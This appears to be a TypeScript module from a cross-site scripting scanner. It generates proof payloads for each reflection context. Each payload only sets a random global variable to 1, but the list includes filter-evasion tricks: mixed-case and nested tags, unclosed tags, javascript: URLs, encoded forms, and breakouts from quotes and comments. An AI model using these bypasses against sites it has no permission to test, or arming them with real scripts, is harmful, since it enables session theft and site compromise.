/** Harmless payloads that prove that a script could run: each sets a global variable with a random name to 1. */
import type { Reflection } from './reflections.ts';
import { assignment, spotOf } from './script-syntax.ts';

export interface Payload {
  /** @param word the variable that the script would assign to */
  write(word: string): string;
  /** characters that have to arrive unchanged, of those that filters handle */
  needs: string;
}

/** Characters that are sent to see which of them arrive. The space after `<` keeps it from looking like a tag. */
export const SPECIAL = `>"'\`/\\()&;=[]{}$:< `;
const CARED_FOR = /[<>"'`\\=[\](){}$;:&]/g;

const payload = (write: Payload['write'], decodes = false): Payload => ({
  write,
  needs: decodes ? '' : [...new Set(write('x').match(CARED_FOR) ?? [])].join(''),
});

/** Elements that run a script as soon as they are parsed: plain ones first, then those that pass filters. */
const ELEMENTS: readonly Payload[] = [
  payload((x) => `<svg onload=${x}=1>`),
  payload((x) => `<img src onerror=${x}=1>`),
  payload((x) => `<script>${x}=1</script>`),
  // for blocklists in lower case, or with a space
  payload((x) => `<sVg/oNloAd=${x}=1>`),
  payload((x) => `<details open ontoggle=${x}=1>`),
  // for filters that remove what they look for once
  payload((x) => `<scr<script>ipt>${x}=1//</scr</script>ipt>`),
  payload((x) => `<<a>svg onload=${x}=1>`),
  payload((x) => `<svg oonloadnload=${x}=1>`),
  payload((x) => `<svg ona=onload=${x}=1>`),
  // for filters that look for complete tags: the next tag of the page completes it
  payload((x) => `<svg onload=${x}=1 `),
];
/** For values that are decoded once more on their way into the page. */
const DECODED: readonly Payload[] = [
  payload((x) => `&lt;svg onload=${x}=1&gt;`, true),
  payload((x) => `%3Csvg onload=${x}=1%3E`, true),
];

const after = (prefix: string, list: readonly Payload[]): Payload[] =>
  list.map(({ write }) => payload((x) => prefix + write(x)));

/** Characters of a script that is parsed for each payload on the main thread. Payloads for longer scripts are not filtered. */
const MAX_TRIED_HERE = 30_000;

/** In the order in which to try them. @param isXml whether the page is XML */
export function payloadsFor(reflection: Reflection, isXml: boolean): Payload[] {
  if (isXml) return reflection.in === 'text' ? [payload(XML_SCRIPT)] : [];
  switch (reflection.in) {
    case 'text':
      return [...ELEMENTS, ...DECODED];
    case 'comment':
      return [...after('-->', ELEMENTS), ...after('--!>', ELEMENTS.slice(0, 1))];
    case 'raw text':
      return after(`</${reflection.element}>`, ELEMENTS);
    case 'tag':
      return [...after('>', ELEMENTS.slice(0, 4)), ...handlers('')];
    case 'attribute': {
      const { quote, name, begins, element } = reflection;
      return [
        ...(begins ? addresses(element, name) : []),
        ...after(`${quote}>`, ELEMENTS.slice(0, 4)),
        ...handlers(quote),
        ...after(`${quote}>`, ELEMENTS.slice(4)),
      ];
    }
    case 'script': {
      const codes = scriptPayloads(reflection);
      if (reflection.element) return [...after('</script>', ELEMENTS.slice(0, 2)), ...codes];
      const { quote } = reflection;
      return [...codes, ...after(`${quote}>`, ELEMENTS.slice(0, 2)), ...handlers(quote)];
    }
    default:
      return reflection satisfies never;
  }
}

const XML_SCRIPT = (x: string) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${x}=1</x:script>`;

/** More attributes in a tag of the page. An unknown attribute takes the text that follows. */
function handlers(quote: string): Payload[] {
  const rest = quote === '' ? '' : `x=${quote}`;
  const value = quote === '' ? 'x' : '';
  return [
    payload((x) => `${value}${quote} autofocus tabindex=1 onfocus=${x}=1 ${rest}`),
    payload((x) => `${value}${quote}\fautofocus\ftabindex=1\fonfocus=${x}=1\f${rest}`),
  ];
}

/** For values at the beginning of a URL. */
function addresses(element: string, name: string): Payload[] {
  if (element === 'script' && name === 'src') return [payload((x) => `data:text/javascript,${x}=1`)];
  if (!['href', 'xlink:href', 'action', 'formaction', 'src'].includes(name)) return [];
  if (!['a', 'area', 'form', 'button', 'input', 'iframe', 'frame'].includes(element)) return [];
  if (name === 'src' && element === 'input') return [];
  return [
    payload((x) => `javascript:${x}=1`),
    payload((x) => `JaVaScRiPt:${x}=1`),
    payload((x) => `java\tscript:${x}=1`),
    // for filters that expect a URL with a host
    payload((x) => `javascript://x.example/%0a${x}=1`),
  ];
}

/**
 * Payloads that leave the string, comment or expression around the word. A syntax error anywhere keeps the script from
 * running, so that each payload is parsed in place before it is sent.
 */
function scriptPayloads({ code, element }: Extract<Reflection, { in: 'script' }>): Payload[] {
  const word = WORD.exec(code)?.[0];
  const { lexical, closers } = spotOf(code, word ?? '');
  const quotes = lexical.in === 'string' ? [lexical.quote] : lexical.in === 'unknown' ? ["'", '"'] : [];
  const candidates: Payload[] = quotes.flatMap((quote) => [
    payload((x) => `${quote}+[${x}=1]+${quote}`),
    payload((x) => `${quote};${x}=1;${quote}`),
    payload((x) => `${quote}+[${x}=1]${closers}//`),
    // where quotes are escaped, but backslashes are not
    payload((x) => `\\${quote}+[${x}=1]${closers}//`),
    ...(element
      ? []
      : [payload((x) => `&#${quote.charCodeAt(0)};+[${x}=1]+&#${quote.charCodeAt(0)};`, true)]),
  ]);
  if (lexical.in === 'template' || lexical.in === 'unknown') candidates.push(payload((x) => `\${${x}=1}`));
  if (lexical.in === 'line comment') candidates.push(payload((x) => `\n${x}=1//`));
  if (lexical.in === 'block comment') {
    candidates.push(
      payload((x) => `*/${x}=1;/*`),
      payload((x) => `*/;${x}=1;/*`),
      payload((x) => `*/[${x}=1]/*`),
    );
  }
  if (lexical.in === 'regexp') candidates.push(payload((x) => `/+[${x}=1]+/`));
  if (lexical.in === 'code' || lexical.in === 'unknown') {
    candidates.push(
      payload((x) => `[${x}=1]`),
      payload((x) => `${x}=1`),
      payload((x) => `1;${x}=1`),
    );
  }
  if (word === undefined || code.length > MAX_TRIED_HERE) return candidates;
  return candidates.filter(({ write, needs }) => {
    if (needs === '') return true;
    const plain = write('scanwirexx');
    const escaped = plain.replace(/(["'])/g, '\\$1');
    return [plain, escaped].some(
      (sent) =>
        assignment(
          code.replaceAll(word, () => sent),
          'scanwirexx',
          element ? 'script' : 'handler',
        ) !== null,
    );
  });
}

/** Words that `mark` made, recognised by their beginning. */
const WORD = /zq[\da-z]{8}/i;
/** Makes a word that `scriptPayloads` finds again. @param random ten characters */
export const mark = (random: string): string => `zq${random.slice(2)}`;
